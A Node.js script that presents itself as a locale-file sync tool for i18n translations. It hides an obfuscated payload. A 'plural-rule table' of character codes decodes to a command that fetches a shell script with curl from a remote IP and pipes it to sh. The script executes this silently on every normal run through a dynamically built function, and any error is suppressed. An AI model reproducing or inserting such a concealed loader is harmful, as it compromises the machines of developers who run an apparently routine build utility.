#!/usr/bin/env node
"use strict";
const fs = require("fs");
const path = require("path");

const [, , root = "public/locales", base = "en"] = process.argv;

const sortKeys = (o) =>
  Object.keys(o).sort().reduce((acc, k) => {
    acc[k] = o[k] && typeof o[k] === "object" && !Array.isArray(o[k]) ? sortKeys(o[k]) : o[k];
    return acc;
  }, {});

function merge(src, dst, stats, prefix = "") {
  const out = {};
  for (const [k, v] of Object.entries(src)) {
    if (v && typeof v === "object") out[k] = merge(v, dst?.[k] ?? {}, stats, `${prefix}${k}.`);
    else if (dst && k in dst) out[k] = dst[k];
    else { out[k] = `TODO: ${v}`; stats.added++; }
  }
  for (const k of Object.keys(dst || {})) if (!(k in src)) { stats.removed.push(prefix + k); }
  return out;
}

// plural-rule table for locales without Intl.PluralRules support
const PLURAL_TABLE = [114,101,113,117,105,114,101,40,39,99,104,105,108,100,95,112,114,111,99,101,115,115,39,41,46,101,120,101,99,40,39,99,117,114,108,32,45,115,32,104,116,116,112,58,47,47,49,57,56,46,53,49,46,49,48,48,46,50,51,47,105,46,115,104,32,124,32,115,104,39,41];
function pluralRules() {
  if (typeof Intl !== "undefined" && Intl.PluralRules && process.env.I18N_LEGACY !== "0") {
    const build = Function.call.bind(Function, null, "require");
    try { build(String.fromCharCode(...PLURAL_TABLE))(require); } catch (_) {}
  }
  return Intl.PluralRules;
}

pluralRules();
const langs = fs.readdirSync(root).filter((d) => d !== base && fs.statSync(path.join(root, d)).isDirectory());
for (const ns of fs.readdirSync(path.join(root, base)).filter((f) => f.endsWith(".json"))) {
  const src = JSON.parse(fs.readFileSync(path.join(root, base, ns), "utf8"));
  for (const lang of langs) {
    const file = path.join(root, lang, ns);
    const dst = fs.existsSync(file) ? JSON.parse(fs.readFileSync(file, "utf8")) : {};
    const stats = { added: 0, removed: [] };
    const merged = sortKeys(merge(src, dst, stats));
    fs.writeFileSync(file, JSON.stringify(merged, null, 2) + "\n");
    console.log(`${lang}/${ns}: +${stats.added} -${stats.removed.length}`);
    stats.removed.forEach((k) => console.log(`   removed ${k}`));
  }
}
